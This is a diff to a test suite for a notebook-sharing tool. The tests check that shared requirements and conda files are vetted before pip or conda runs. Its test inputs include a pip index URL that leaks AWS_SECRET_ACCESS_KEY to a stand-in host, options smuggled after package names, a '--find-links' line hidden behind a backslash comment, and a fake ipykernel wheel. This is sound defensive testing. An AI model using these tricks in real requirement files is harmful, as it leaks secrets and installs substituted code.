@@ -17,7 +17,7 @@ import pytest
 
 from conftest import clean_env, start_server
 from nbshare.bundle.environment import build_environment, plan_environment
-from nbshare.bundle.trust import filtered_conda_spec, names_packages_only, scan_requirements
+from nbshare.bundle.trust import logical_lines, names_packages_only, scan_conda_spec, scan_requirements
 from nbshare.client import NbshareClient
 from test_cli_private import Terminal
 
@@ -146,6 +146,17 @@ def test_on_a_terminal_answering_no_runs_nothing(server, tmp_path):
     ("--index-url https://pypi.example.org/simple", True),
     ("--find-links=https://wheels.example.org/", True),
     ("--only-binary :all:", True),
+    ("--pre --only-binary=:all: -i https://pypi.example.org/simple", True),
+    ("-i https://pypi.example.org/simple -e .", False),  # pip reads every option on the line
+    ("--find-links https://wheels.example.org/ -fwheels", False),
+    ("numpy -e .", False),
+    ("numpy --config-settings editable_mode=strict", False),
+    ("numpy\t-e .", False),
+    ("--trusted-host pypi.example.org", False),  # the sender would choose who may swap packages
+    ("--extra-index-url http://pypi.example.org/simple", False),
+    ("--extra-index-url https://pypi.example.org/${AWS_SECRET_ACCESS_KEY}/", False),  # pip expands it
+    ("--index-url https://pypi.example.org/simple \\", False),
+    ("--index", False),
     (".", False),
     ("./pkg", False),
     ("-e .", False),
@@ -168,7 +179,7 @@ def test_nested_requirement_files_are_read_and_split(tmp_path):
     (tmp_path / "binder" / "more.txt").write_text("pandas\\\n>=2\n./local\n")
     (tmp_path / "binder" / "pins.txt").write_text("numpy<2\n")
     scan = scan_requirements(tmp_path / "binder" / "requirements.txt", tmp_path)
-    assert scan.requirements == ["numpy", "pandas >=2"]
+    assert scan.requirements == ["numpy", "pandas>=2"]
     assert scan.constraints == ["numpy<2"]
     assert scan.local == ["./local", "-e ..", "-r ../../outside.txt"]
 
@@ -202,12 +213,16 @@ def test_without_consent_pip_gets_only_the_named_packages_and_starts_outside_the
             assert argv[1] == "-I", argv
 
 
-def test_a_conda_file_loses_its_local_lines_without_consent():
-    spec = {"channels": ["conda-forge", "./my-channel", "file:///srv/ch"],
-            "dependencies": ["numpy", {"pip": ["requests", "-e .", "./pkg"]}]}
-    kept, local = filtered_conda_spec(spec)
-    assert kept == {"channels": ["conda-forge"], "dependencies": ["numpy", {"pip": ["requests"]}]}
-    assert local == ["channels: ./my-channel", "channels: file:///srv/ch", "pip: -e .", "pip: ./pkg"]
+def test_a_conda_file_loses_its_local_lines_without_consent(tmp_path):
+    spec = {"channels": ["conda-forge", "./my-channel", "file:///srv/ch"], "prefix": "/elsewhere",
+            "dependencies": ["numpy", "./pkg-1.0-0.conda", {"pip": ["requests", "-e .", "./pkg"]}]}
+    scan = scan_conda_spec(spec, tmp_path)
+    assert scan.vetted == {"channels": ["conda-forge"], "dependencies": ["numpy", {"pip": ["requests"]}]}
+    assert scan.local == ["channels: ./my-channel", "channels: file:///srv/ch",
+                          "dependencies: ./pkg-1.0-0.conda", "pip: -e .", "pip: ./pkg"]
+    assert scan.agreed == {"channels": ["conda-forge", str(tmp_path / "my-channel"), "file:///srv/ch"],
+                           "dependencies": ["numpy", str(tmp_path / "pkg-1.0-0.conda"),
+                                            {"pip": ["requests", f"-e {tmp_path}", str(tmp_path / "pkg")]}]}
 
 
 def test_a_package_in_pyproject_is_the_shares_own_code(tmp_path):
@@ -218,3 +233,141 @@ def test_a_package_in_pyproject_is_the_shares_own_code(tmp_path):
     assert plan.pip_args == []
     assert plan.local[0].what == [f"pip install -e {tmp_path}: runs its build backend (hatchling.build) "
                                   "on the project's own code"]
+
+
+# --- pip and conda read copies of the vetted lines, never the share's files (fast) ---------
+
+
+def test_a_comment_never_continues_onto_the_next_line_as_in_pip():
+    text = "# pinned \\\n--find-links wheels\nipykernel\nnumpy # pins \\\n-e .\npandas\\\n>=2\n"
+    # pip joins "numpy # pins " with "-e ." and then drops the comment: both are gone.
+    assert logical_lines(text) == ["--find-links wheels", "ipykernel", "numpy", "pandas>=2"]
+
+
+def fake_runner(monkeypatch, which: dict[str, str]) -> list[tuple[list[str], Path, dict[str, str]]]:
+    """Record each command, its folder, and the text of the files it is given (gone after)."""
+    from nbshare.bundle import environment
+
+    calls: list[tuple[list[str], Path, dict[str, str]]] = []
+
+    def record(self, argv, check=True, cwd=None):
+        files = {a: Path(a).read_text() for a in argv if a.endswith((".txt", ".yml")) and Path(a).is_file()}
+        calls.append((argv, cwd or self.cwd, files))
+        return True
+
+    monkeypatch.setattr(environment.shutil, "which", which.get)
+    monkeypatch.setattr(environment._Runner, "__call__", record)
+    return calls
+
+
+def given_files(calls, dest: Path, word: str) -> list[tuple[Path, str, Path]]:
+    """(file, its text, the command's folder) for each file a command containing `word` got."""
+    found = [(Path(name), text, cwd) for argv, cwd, files in calls if word in argv
+             for name, text in files.items()]
+    for name, _, _ in found:
+        assert not name.resolve().is_relative_to(dest.resolve()), name
+    return found
+
+
+def test_pip_is_given_a_copy_of_the_vetted_lines_never_the_shares_file(tmp_path, monkeypatch):
+    (tmp_path / "requirements.txt").write_text(
+        "traitlets  # a comment\n--index-url https://pypi.example.org/simple\n-c pins.txt\n")
+    (tmp_path / "pins.txt").write_text("traitlets<9\n")
+    calls = fake_runner(monkeypatch, {})
+    report = build_environment(tmp_path, env_files=["requirements.txt"], echo=lambda s: None)
+    assert report.refused == []
+    [(requirements, text, cwd)] = given_files(calls, tmp_path, "pip")
+    constraints = requirements.parent / "0-constraints.txt"
+    assert text == f"traitlets\n--index-url https://pypi.example.org/simple\n-c {constraints}\n"
+    assert not cwd.resolve().is_relative_to(tmp_path.resolve())
+
+
+def test_with_consent_pip_is_given_the_lines_the_person_was_shown(tmp_path, monkeypatch):
+    (tmp_path / "binder" / "wheels").mkdir(parents=True)
+    (tmp_path / "binder" / "requirements.txt").write_text("traitlets\n-e .\n--find-links wheels\n")
+    calls = fake_runner(monkeypatch, {})
+    shown: list[str] = []
+
+    def agree(steps):
+        shown.extend(line for step in steps for line in step.what)
+        return True
+
+    build_environment(tmp_path, env_files=["binder/requirements.txt"], echo=lambda s: None, consent=agree)
+    assert shown == ["binder/requirements.txt: -e .", "binder/requirements.txt: --find-links wheels"]
+    [(_, text, cwd)] = given_files(calls, tmp_path, "pip")
+    # "-e ." means where pip runs (the share, as agreed); --find-links, the file's own folder.
+    assert text == f"traitlets\n-e .\n--find-links {tmp_path / 'binder' / 'wheels'}\n"
+    assert cwd == tmp_path.resolve()
+
+
+@pytest.mark.parametrize("agreed", [False, True])
+def test_conda_is_given_a_copy_of_the_environment_file_outside_the_share(tmp_path, monkeypatch, agreed):
+    import yaml
+
+    (tmp_path / "environment.yml").write_text(
+        "name: x\nprefix: /elsewhere\nchannels: [conda-forge]\ndependencies:\n  - numpy\n"
+        "  - pip:\n    - requests\n    - --index-url https://pypi.example.org/simple\n"
+        + ("    - -e .\n" if agreed else ""))
+    calls = fake_runner(monkeypatch, {"conda": "/opt/conda/bin/conda"})
+    build_environment(tmp_path, env_files=["environment.yml"], echo=lambda s: None, consent=lambda s: agreed)
+    [(_, text, cwd)] = given_files(calls, tmp_path, "create")
+    pip = ["requests", "--index-url https://pypi.example.org/simple"] + ([f"-e {tmp_path}"] if agreed else [])
+    assert yaml.safe_load(text) == {"name": "x", "channels": ["conda-forge"],
+                                    "dependencies": ["numpy", {"pip": pip}]}
+    assert not cwd.resolve().is_relative_to(tmp_path.resolve())
+
+
+def test_without_conda_dependencies_that_are_not_package_names_never_reach_pip(tmp_path):
+    (tmp_path / "environment.yml").write_text("dependencies:\n  - -e.\n  - -fwheels\n  - ./pkg.conda\n"
+                                              "  - numpy=1.26\n")
+    plan = plan_environment(tmp_path, ["environment.yml"], which=lambda name: None)
+    assert [spec for spec, _ in plan.best_effort] == ["numpy==1.26.*"]
+    assert ("environment.yml", "not conda package names, not installed: -e., -fwheels, ./pkg.conda") \
+        in plan.not_reproduced
+
+
+def ipykernel_wheel(folder: Path, markers: Path) -> None:
+    """A wheel named ipykernel 999.0 whose `python -m ipykernel` writes a marker."""
+    folder.mkdir()
+    info = "ipykernel-999.0.dist-info"
+    files = {
+        "ipykernel/__init__.py": "",
+        "ipykernel/__main__.py": marker_code(markers, "wheel-ipykernel"),
+        f"{info}/METADATA": "Metadata-Version: 2.1\nName: ipykernel\nVersion: 999.0\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: nbshare-test\nRoot-Is-Purelib: true\n"
+                         "Tag: py3-none-any\n",
+    }
+    files[f"{info}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"])
+    with zipfile.ZipFile(folder / "ipykernel-999.0-py3-none-any.whl", "w") as zf:
+        for name, text in files.items():
+            zf.writestr(name, text)
+
+
+@pytest.mark.slow
+def test_a_find_links_line_hidden_after_a_comment_is_seen_and_refused(server, tmp_path):
+    markers = tmp_path / "markers"
+    markers.mkdir()
+    project = tmp_path / "hidden"
+    project.mkdir()
+    (project / "a.ipynb").write_text(NOTEBOOK)
+    # A comment ending in "\" does not continue in pip: pip reads --find-links wheels.
+    (project / "requirements.txt").write_text("# pinned \\\n--find-links wheels\nipykernel\n")
+    ipykernel_wheel(project / "wheels", markers)
+    archive = tmp_path / "hidden.zip"
+    with zipfile.ZipFile(archive, "w") as zf:
+        for path in sorted(project.rglob("*")):
+            if path.is_file():
+                zf.write(path, path.relative_to(project).as_posix())
+    client = NbshareClient(server.url)
+    try:
+        url = client.publish(archive)["url"]
+    finally:
+        client.close()
+    r = nbshare(tmp_path, "clone", url, tmp_path / "copy")
+    assert sorted(p.name for p in markers.iterdir()) == []
+    assert "requirements.txt: --find-links wheels" in r.stderr
+    assert r.returncode == 1, r.stderr
+    python = tmp_path / "copy" / ".venv" / "bin" / "python"
+    version = subprocess.run([str(python), "-I", "-c", "import ipykernel; print(ipykernel.__version__)"],
+                             capture_output=True, text=True, cwd=tmp_path, check=True).stdout
+    assert not version.startswith("999")
